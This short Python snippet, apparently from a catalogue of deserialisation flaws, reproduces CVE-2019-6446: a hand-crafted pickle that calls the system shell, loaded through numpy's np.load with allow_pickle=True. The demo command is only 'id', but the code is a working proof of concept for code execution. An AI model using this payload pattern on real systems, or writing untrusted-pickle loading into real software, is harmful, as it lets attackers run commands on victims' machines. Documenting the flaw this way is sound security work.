# Source: https://github.com/numpy/numpy/issues/12759 (CVE-2019-6446)
# Family: data-is-code
# What: np.load(allow_pickle=True) on a protocol-0 pickle that calls os.system
import io
import numpy as np

buf = io.BytesIO(b"cposix\nsystem\n(S'id'\ntR.")
np.load(buf, allow_pickle=True)
